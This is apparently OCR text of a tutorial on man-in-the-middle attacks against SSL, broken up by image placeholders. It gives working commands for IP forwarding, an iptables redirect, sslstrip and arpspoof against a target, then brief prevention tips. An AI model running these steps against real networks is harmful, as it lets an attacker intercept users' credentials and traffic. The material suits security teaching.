• Animesh Gupta

Man-in-the-Middle Attack on SSL


Instead of HyperText Transfer Protocol (HTTP), this website uses HyperText Transfer Protocol Secure (HTTPS). Using HTTPS, the computers agree on a "code"between them, and then they scramble the messages using that "code" so that no one in between can read them. This keeps your information safe from hackers.

How SSL Works?

A browser or server attempts to connect to a website (i.e. a web server) secured with SSL.

The browser/server requests that the web server identify itself.The web server sends the browser/server a copy of its SSL certificate.The browser/server checks to see whether or not it trusts the SSL certificate. If so, it sends a message to the web server.

The web server sends back a digitally signed acknowledgement to start an SSL encrypted session.Encrypted data is shared between the browser/server and the web server.

Common SSL Misconceptions

HTTPS means I am secure right?

What about…

−SSL version 2.0 flaws

−Weak Ciphers < 128 bit

−Certificate keys < 1024 bits

−Client vulnerabilities

−Server vulnerabilities

−Application vulnerabilities

SSL can provide a false sense of security


Common HTTP/HTTPS Connection

Hijacking CommunicationsUsing SSL Strip

1. Get sslstrip

A. Download and install sslstrip and arpspoof (linux only)

http://www.thoughtcrime.org/software.html http://sourceforge.net/projects/arpspoof/

B. Get Kali Linux


Using sslstrip2. Configure attack machine for IP forwarding.

echo “1” > /proc/sys/net/ipv4/ip_forward

3. Route all HTTP traffic to sslstrip.

iptables –t nat –A PREROUTING –p tcp --destination-port 80 –j REDIRECT --to-port 54321

4. Run sslstrip.

sslstrip –l 54321

5. Configure ARP spoofing.

arpspoof –i eth0 –t <targetIP> <gatewayIP>

6. Launch a sniffer and collect data.Expanding the attack

What if a root certificate could be installed on the target?

The attacker could potentially replace the certificate and maintain a secureconnection.

Preventing SSL Spoofing

  1. Ensure you are using secure connections. Look for the HTTPS.

  2. Be careful about where you use secure sites.

  3. Securemachines on the network.

  4. Use static ARPtables.*



©2019 Security Unleashed | New Delhi